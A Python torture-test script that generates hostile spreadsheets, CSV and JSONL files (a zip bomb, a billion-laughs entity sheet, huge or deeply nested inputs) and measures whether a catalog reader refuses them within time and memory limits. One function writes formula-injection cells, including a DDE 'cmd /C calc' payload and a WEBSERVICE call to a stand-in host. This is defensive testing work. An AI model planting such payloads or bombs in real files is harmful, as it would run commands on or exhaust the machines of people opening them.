"""Files made to do harm, each read by a process of its own: how long it took, how much memory, what it was told.

Usage: python -m tests.torture.hostile [--limit-s 5] [--limit-mb 300] [--out FILE.json]

Each file goes both ways in: as a catalog, and as a registration sheet where it is a sheet. Time is that of the
processor, memory the most that reading took beyond what the program has anyway, its own processes included.
"""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl

from tests.paged import arguments
from tests.torture.rows import Row, finish

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_NAMES = '<c r="A1" t="inlineStr"><is><t>name_th</t></is></c><c r="B1" t="inlineStr"><is><t>offers</t></is></c>'
HEADER = f'<row r="1">{_NAMES}</row>'
GOOD = '{"id": "good", "name_th": "ร้าน", "province_th": "ตรัง", "offers": [{"text": "ผ้า"}]}\n'


def workbook(path: Path, rows: str, *, shared: str = "", sheets: int = 1) -> Path:
    """A workbook of these rows, with this table of shared texts."""
    names = [f"sheet{number}" for number in range(1, sheets + 1)]
    parts = "".join(
        f'<Override PartName="/xl/worksheets/{one}.xml" ContentType="{_TYPE}.worksheet+xml"/>' for one in names
    )
    listed = "".join(f'<sheet name="{one}" sheetId="{at}" r:id="r{at}"/>' for at, one in enumerate(names, 1))
    related = "".join(
        f'<Relationship Id="r{at}" Type="{_OFFICE}/worksheet" Target="worksheets/{one}.xml"/>'
        for at, one in enumerate(names, 1)
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>{parts}'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_TYPE}.sharedStrings+xml"/></Types>',
        )
        packed.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        packed.writestr(
            "xl/workbook.xml", f'<workbook {_MAIN} xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>'
        )
        packed.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PACKAGE}">{related}<Relationship Id="s" Type="{_OFFICE}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        )
        for one in names:
            packed.writestr(f"xl/worksheets/{one}.xml", f"<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>")
        packed.writestr("xl/sharedStrings.xml", f"<sst {_MAIN}>{shared}</sst>")
    return path


def _cell(place: str, text: str) -> str:
    return (
        f'<row r="{"".join(filter(str.isdigit, place))}"><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'
    )


def _text(content: str | bytes) -> Callable[[Path], object]:
    data = content.encode() if isinstance(content, str) else content
    return lambda path: path.write_bytes(data)


def _book(rows: str, **rest: object) -> Callable[[Path], object]:
    return lambda path: workbook(path, HEADER + rows, **rest)  # type: ignore[arg-type]


def _shared(rows: int, chars: int) -> Callable[[Path], object]:
    """Many cells that all name one long text."""
    cells = "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(2, rows + 2))
    return _book(cells, shared=f"<si><t>{'x' * chars}</t></si>")


def _bomb(path: Path) -> None:
    """Zeros by the hundred megabytes."""
    workbook(path, HEADER)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/media/zeros.bin", b"\0" * 150_000_000)


def _formulas(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["name_th", "offers"])
    for formula in ('=WEBSERVICE("http://x.example/"&A1)', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"):
        book.active.append([formula, formula])
    book.save(path)


def _entities(path: Path) -> None:
    """A billion laughs in the sheet."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    workbook(path, HEADER)
    with zipfile.ZipFile(path) as packed:
        kept = {name: packed.read(name) for name in packed.namelist()}
    kept["xl/worksheets/sheet1.xml"] = (
        f'<!DOCTYPE x [<!ENTITY a0 "x">{levels}]><worksheet {_MAIN}><sheetData>{HEADER}{_cell("A2", "&a9;")}'
        "</sheetData></worksheet>"
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in kept.items():
            packed.writestr(name, data)


_PRICED = '{"name_th": "ร้าน", "offers": [{"text": "x", "price_thb": 5}]}\n'
_ODD = "\u202eร้าน\u200b\u2066x\u0007\ufeff"

FILES: Mapping[str, Callable[[Path], object]] = {
    "bomb.xlsx": _bomb,
    "shared-text.xlsx": _shared(400, 5_000_000),
    "shared-texts.xlsx": _shared(150_000, 30_000),
    "sparse.xlsx": _book(_cell("AX200000", "x")),
    "corner.xlsx": _book(_cell("XFD1048576", "x")),
    "entities.xlsx": _entities,
    "formulas.xlsx": _formulas,
    "thousand-sheets.xlsx": _book("", sheets=1_000),
    "nested.xlsx": _book("<row>" * 50_000),
    "odd-names.xlsx": _book(_cell("A2", _ODD.replace("\u0007", "")) + _cell("B2", "ผ้า")),
    "no-workbook.xlsx": _text(b"PK\x03\x04 nothing"),
    "utf-16.csv": _text("name_th,offers\nร้าน,ผ้า\n".encode("utf-16")),
    "no-encoding.csv": _text(b"name_th,offers\n\xff\xfd\x90\xdb,x\n"),
    "open-quote.csv": _text('name_th,offers\n"' + "ก,ผ้า\n" * 200_000),
    "columns.csv": _text("name_th" + "," * 2_000_000 + "\n"),
    "one-cell.csv": _text("name_th,offers\nร้าน," + "ก" * 20_000_000 + "\n"),
    "semicolons.csv": _text("name_th,offers\nร้าน," + "ก;" * 100_000 + "\n"),
    "odd-names.csv": _text(f"name_th,offers\n{_ODD},ผ้า\n\0,ผ้า\n"),
    "depth.jsonl": _text("[" * 900_000 + "\n" + GOOD),
    "numbers.jsonl": _text(
        '{"name_th": "ร้าน", "offers": [{"text": "x", "price_thb": ' + "9" * 900_000 + "}]}\n" + GOOD
    ),
    "exponents.jsonl": _text(
        '{"name_th": "ร้าน", "offers": [{"text": "x", "price_thb": 1e999999999}]}\n' * 2_000 + GOOD
    ),
    "names.jsonl": _text(json.dumps({"name_th": _ODD, "offers": [{"text": "ผ้า"}]}) + "\n" + GOOD),
    "offers.jsonl": _text(json.dumps({"name_th": "x", "offers": [{}] * 100_000}) + "\n" + GOOD),
    "one-line.jsonl": _text('{"name_th": "' + "x" * 20_000_000 + '"}\n' + GOOD),
}
"""Each file's name, and what writes it."""

_READ = """
import json, resource, sys
from pathlib import Path
way, path = sys.argv[1], Path(sys.argv[2])
from matcher.exchange import read_catalog
from matcher.errors import MatcherError
from matcher.fair.registration import read_registration
from tests.matcher.fair.registration.sheets import FAIR, FIRMS
read = read_catalog if way == "catalog" else lambda path: read_registration(path, fair=FAIR, firms=FIRMS)
usage = lambda: [resource.getrusage(one) for one in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
used = lambda now: sum(one.ru_utime + one.ru_stime for one in now)
before = usage()
try:
    found = read(path)
    said = f"{len(found.problems)} rows refused" if found.problems else "read"
except MatcherError as refused:
    said = f"refused: {refused}"
after = usage()
grown = after[0].ru_maxrss - before[0].ru_maxrss
print(json.dumps({"said": said, "s": used(after) - used(before), "mb": (grown + after[1].ru_maxrss) / 1024}))
"""


@dataclass(frozen=True, slots=True)
class Tried:
    """What became of a file.

    Attributes:
        way: `catalog` or `registration`.
        said: What it was answered; empty where the process died.
    """

    file: str
    way: str
    said: str
    cpu_s: float
    memory_mb: float


def tried(folder: Path, names: Mapping[str, Callable[[Path], object]]) -> Iterator[Tried]:
    """Write each file and read it both ways."""
    for name, write in names.items():
        path = folder / name
        write(path)
        for way in ("catalog", "registration"):
            if way == "registration" and path.suffix == ".jsonl":
                continue
            command = [sys.executable, "-c", _READ, way, str(path)]
            done = subprocess.run(command, capture_output=True, text=True, timeout=600, check=False)
            answer = json.loads(done.stdout) if done.returncode == 0 else {"said": "", "s": 0.0, "mb": 0.0}
            yield Tried(name, way, answer["said"], answer["s"], answer["mb"])
        path.unlink()


def rows(found: list[Tried], *, limit_s: float, limit_mb: float) -> list[Row]:
    """What the page of promises says."""
    bad = [
        f"{one.file} as {one.way}: {one.said or 'the process died'}, {one.cpu_s:.1f} s, {one.memory_mb:.0f} MB"
        for one in found
        if not one.said or one.cpu_s > limit_s or one.memory_mb > limit_mb
    ]
    slowest, largest = max(found, key=lambda one: one.cpu_s), max(found, key=lambda one: one.memory_mb)
    return [
        Row(
            promise="A file made to do harm is read or refused in words, "
            f"within {limit_s:.0f} s of a processor and {limit_mb:.0f} MB",
            tested=f"{len({one.file for one in found})} files (zip bombs, shared texts, far corners, 1,000 sheets, "
            "formulas, entities, wrong encodings, depth, huge numbers, odd names), as catalog and as registration",
            reached="; ".join(bad)
            or f"at most {slowest.cpu_s:.1f} s ({slowest.file}) and {largest.memory_mb:.0f} MB ({largest.file})",
            kept=not bad,
        )
    ]


def main() -> None:
    """Try all files."""
    given = arguments(__doc__)
    given.add_argument("--limit-s", type=float, default=5.0)
    given.add_argument("--limit-mb", type=float, default=300.0)
    asked = given.parse_args()
    with TemporaryDirectory() as folder:
        found = list(tried(Path(folder), FILES))
    for one in found:
        print(f"{one.cpu_s:6.2f} s {one.memory_mb:6.0f} MB  {one.file} as {one.way}: {one.said[:120]}")
    finish(
        rows(found, limit_s=asked.limit_s, limit_mb=asked.limit_mb),
        asked,
        not_covered=("Faults of the readers of spreadsheets that none of these files touches.",),
    )


if __name__ == "__main__":
    main()
